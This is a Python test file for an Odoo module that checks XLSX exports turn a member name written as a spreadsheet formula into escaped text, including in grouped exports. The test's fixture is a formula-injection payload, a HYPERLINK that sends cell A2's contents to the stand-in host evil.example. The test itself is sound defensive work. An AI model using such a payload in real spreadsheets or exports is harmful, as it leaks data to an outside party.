import doctest
import json
from io import BytesIO

from openpyxl import load_workbook

from odoo.http import Request
from odoo.tests import HttpCase, tagged

from ..controllers import export
from .common import CoopBuilders

FORMULA = '=HYPERLINK("https://evil.example/?"&A2;"Ana")'


@tagged("post_install", "-at_install")
class TestExport(CoopBuilders, HttpCase):
    """What somebody typed as their name does nothing in the office's spreadsheet."""

    def setUp(self):
        super().setUp()
        self.manager.group_ids |= self.env.ref("base.group_allow_export")
        self.evil = self.make_member(FORMULA)
        self.authenticate("coop.manager", "coop.managercoop.manager")

    def cells(self, **more):
        data = {
            "model": "coop.member",
            "fields": [{"name": "name", "label": "Name", "type": "char"}],
            "ids": self.evil.ids,
            "domain": [],
            "import_compat": False,
            "groupby": [],
            "context": {"allowed_company_ids": self.company.ids},
            **more,
        }
        form = {"data": json.dumps(data), "csrf_token": Request.csrf_token(self)}
        answer = self.url_open("/web/export/xlsx", data=form)
        self.assertEqual(answer.status_code, 200, answer.text[:3000])
        sheet = load_workbook(BytesIO(answer.content)).active
        return [(cell.data_type, str(cell.value)) for row in sheet for cell in row]

    def test_a_name_is_no_formula(self):
        cells = self.cells()
        self.assertIn(("s", f"'{FORMULA}"), cells)
        self.assertNotIn("f", [kind for kind, _value in cells])

    def test_the_name_of_a_group_is_no_formula(self):
        domain = [["id", "=", self.evil.id]]
        cells = self.cells(ids=False, domain=domain, groupby=["partner_id"])
        self.assertIn(f"'{FORMULA}", " ".join(value for _kind, value in cells))
        self.assertNotIn("f", [kind for kind, _value in cells])

    def test_examples(self):
        self.assertEqual(doctest.testmod(export).failed, 0)
